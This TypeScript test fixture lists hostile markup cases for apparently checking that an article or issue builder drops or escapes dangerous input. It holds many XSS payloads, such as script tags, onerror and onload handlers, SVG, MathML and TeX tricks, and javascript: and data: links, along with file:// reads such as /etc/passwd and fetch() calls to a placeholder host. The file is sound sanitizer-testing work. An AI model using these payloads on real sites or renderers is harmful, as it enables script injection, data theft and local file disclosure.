import { drawing } from '../../../test/kit/pictures.js'
import { type ArticleAttack, hostile } from './attack.js'

const picture = async () => ({ 'a.png': await drawing(50, 50) })
const dropped = { rule: 'html-element' }

/** Markup that is dropped or printed as text: the issue is built. */
export const markup: readonly ArticleAttack[] = [
  hostile(
    '<script>',
    ({ url, secret }) => `<script>document.body.textContent='${secret}';fetch('${url}')</script>`,
    dropped,
  ),
  hostile('<script src>', ({ url }) => `<script src="${url}"></script>`, dropped),
  hostile('大小写与斜线 <ScRiPt/x>', ({ url }) => `<ScRiPt/x>fetch('${url}')</ScRiPt >`),
  hostile(
    '事件 onload、onerror',
    ({ url }) => `<img src="a.png" onerror="fetch('${url}')"><body onload="fetch('${url}')">`,
    { files: picture },
  ),
  hostile(
    '表格里的事件',
    ({ url }) =>
      `<table onmouseover="fetch('${url}')"><tr><td onclick="fetch('${url}')" autofocus onfocus="fetch('${url}')">格</td></tr></table>`,
    { shows: '格' },
  ),
  hostile(
    '动画事件 onbegin',
    ({ url }) => `<svg><animate onbegin="fetch('${url}')" attributeName=x dur=1s></svg>`,
    dropped,
  ),
  hostile(
    '内嵌 SVG',
    ({ url, secret }) =>
      `<svg onload="fetch('${url}')"><text>${secret}</text><image href="${url}"/><use href="${url}#a"/></svg>`,
    dropped,
  ),
  hostile(
    'SVG 里的 foreignObject',
    ({ url, secret }) =>
      `<svg><foreignObject><iframe src="${url}"></iframe>${secret}</foreignObject></svg>`,
    dropped,
  ),
  hostile(
    'MathML 的链接',
    ({ url }) =>
      `<math><mtext><mglyph src="${url}"></mglyph></mtext><maction actiontype="statusline" xlink:href="javascript:fetch('${url}')">x</maction></math>`,
    dropped,
  ),
  hostile(
    '公式里的 TeX 命令',
    ({ url, outside }) =>
      `$\\href{javascript:fetch('${url}')}{x}$ 和 $\\input{${outside}/secret.txt}$ 和 $\\includegraphics{${url}}$`,
    { rule: 'formula' },
  ),
  hostile('公式套宏 \\def', () => '$\\def\\a{\\a\\a}\\a$ 和 $\\newcommand{\\b}{\\b\\b}\\b$', {
    rule: 'formula',
  }),
  hostile(
    '公式里的样式和类',
    ({ url }) =>
      `$\\style{background:url(${url})}{x}\\class{title}{y}\\cssId{bulletin}{z}\\htmlData{a=b}{w}$`,
    { rule: 'formula' },
  ),
  hostile(
    '<style> @import',
    ({ url, outside }) =>
      `<style>@import url(${url}); @import "file://${outside}/secret.css"; p{display:none}</style>`,
    dropped,
  ),
  hostile(
    'style 属性的 url()',
    ({ url }) =>
      `<table style="background:url(${url})"><tr><td style="background:url(${url});font-size:90pt">格</td></tr></table>`,
  ),
  hostile(
    'background、poster、srcset',
    ({ url }) =>
      `<table background="${url}"><tr><td background="${url}">格</td></tr></table><video poster="${url}" src="${url}"></video><picture><source srcset="${url}"></picture>`,
    dropped,
  ),
  hostile(
    '<meta refresh>',
    ({ url, outside }) =>
      `<meta http-equiv="refresh" content="0;url=${url}"><meta http-equiv=refresh content="0;url=file://${outside}/secret.txt">`,
  ),
  hostile(
    '<meta CSP>、<base>',
    ({ url }) =>
      `<meta http-equiv="Content-Security-Policy" content="default-src *"><base href="${url}/">`,
  ),
  hostile(
    '<iframe>',
    ({ url, outside }) =>
      `<iframe src="${url}"></iframe><iframe src="file://${outside}/secret.txt"></iframe>`,
    dropped,
  ),
  hostile(
    '<iframe srcdoc>',
    ({ url, secret }) => `<iframe srcdoc="<script>fetch('${url}')</script>${secret}"></iframe>`,
    dropped,
  ),
  hostile(
    '<object>、<embed>、<applet>',
    ({ url, outside }) =>
      `<object data="file://${outside}/secret.txt"><param name=src value="${url}"></object><embed src="${url}"><applet code="${url}"></applet>`,
    dropped,
  ),
  hostile(
    '<link> 样式、预取',
    ({ url, outside }) =>
      `<link rel=stylesheet href="${url}"><link rel=prefetch href="${url}"><link rel=import href="file://${outside}/secret.txt">`,
  ),
  hostile(
    '<form>',
    ({ url }) =>
      `<form action="${url}" id=f><input name=a><button formaction="${url}">x</button></form>`,
    dropped,
  ),
  hostile(
    '<template>、声明式影子树',
    ({ url }) => `<div><template shadowrootmode=open><img src="${url}"></template></div>`,
    dropped,
  ),
  hostile(
    '<noscript>、<plaintext>、<xmp>',
    ({ url }) => `<noscript><img src="${url}"></noscript><xmp><img src="${url}"></xmp>`,
    dropped,
  ),
  hostile(
    '收尾标签 </body></html>',
    ({ url }) => `</div></section></body></html><script src="${url}"></script>`,
    dropped,
  ),
  hostile(
    'XML 处理指令和 CDATA',
    ({ url }) => `<?xml-stylesheet href="${url}"?>\n\n<![CDATA[<img src="${url}">]]>`,
  ),
  hostile(
    '注释里的标签 --!>',
    ({ url }) => `<!-- --!><img src="${url}" onerror="fetch('${url}')"> -->`,
  ),
  hostile(
    'javascript: 链接',
    ({ url }) =>
      `[甲](javascript:fetch('${url}'))和<a href="java&#10;script:fetch('${url}')">乙</a>`,
    { rule: 'link-scheme' },
  ),
  hostile(
    '拆开的 java\\tscript:',
    ({ url }) =>
      `[甲](<java\tscript:fetch('${url}')>)[乙](&#x6A;avascript:fetch('${url}'))[丙](JaVaScRiPt:fetch\\('${url}'\\))`,
    { rule: 'link-scheme' },
  ),
  hostile(
    'vbscript:、data:、blob: 链接',
    ({ url }) =>
      `[甲](vbscript:x)[乙](data:text/html,<script>fetch('${url}')</script>)[丙](blob:${url}/a)`,
    { rule: 'link-scheme' },
  ),
  hostile(
    'file: 链接',
    ({ outside }) => `[甲](file://${outside}/secret.txt)[乙](file:///etc/passwd)`,
    { rule: 'link-scheme' },
  ),
  hostile(
    '链接文字里的标签',
    ({ url }) =>
      `[<img src="${url}" onerror=fetch('${url}')>](https://example.org "\\"><script>fetch('${url}')</script>")`,
  ),
  hostile(
    '引用式链接和脚注名',
    ({ url }) => `甲[^"><script>]和[乙][x]。\n\n[x]: javascript:fetch('${url}')\n[^"><script>]: 注`,
    { rule: 'link-scheme' },
  ),
  hostile('代码块的语言名', ({ url }) => `\`\`\`"><img src=${url} onerror=fetch(1)>\n代码\n\`\`\``),
  hostile(
    '伪装自家的类名和 id',
    () =>
      '<table id="bulletin" class="cover title" data-page="1"><tr><td class="cover">格</td></tr></table>',
    { shows: '格' },
  ),
]
